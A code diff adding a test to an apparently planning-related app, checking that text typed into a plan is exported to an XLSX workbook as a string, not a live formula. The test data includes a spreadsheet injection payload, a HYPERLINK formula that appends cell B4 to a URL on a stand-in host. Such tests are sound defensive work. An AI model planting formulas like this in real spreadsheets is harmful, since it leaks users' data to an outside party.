@@ -262,3 +262,20 @@ def test_what_later_visits_said_is_suggested_with_its_reason_then_decided(databa
     assert [s["decision"] for s in again] == ["rejected"]
     assert [e["action"] for e in audit.entries(database, plan_id)][-2:] == ["confirmed", "rejected"]
     assert later_findings(database, reader, create_plan(database, editor, _gateshead_2023(database))) == []
+
+
+def test_words_typed_into_a_plan_stay_words_in_its_workbook(database: Database) -> None:
+    import io
+
+    from openpyxl import load_workbook
+
+    from oversight.plans.exports import plan_xlsx
+
+    editor, _, _ = _people(database)
+    plan_id = create_plan(database, editor, _gateshead_2023(database))
+    item = load_plan(database, editor, plan_id)["items"][0]["id"]
+    formula = '=HYPERLINK("https://elsewhere.example/?"&B4,"Open the evidence")'
+    add_action(database, editor, item, formula, "-1 day late", "@someone", None, "on_track")
+    sheet = load_workbook(io.BytesIO(plan_xlsx(load_plan(database, editor, plan_id), "Gateshead")))["Plan"]
+    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if cell.value}
+    assert cells[formula] == "s" and cells["-1 day late, @someone"] == "s"
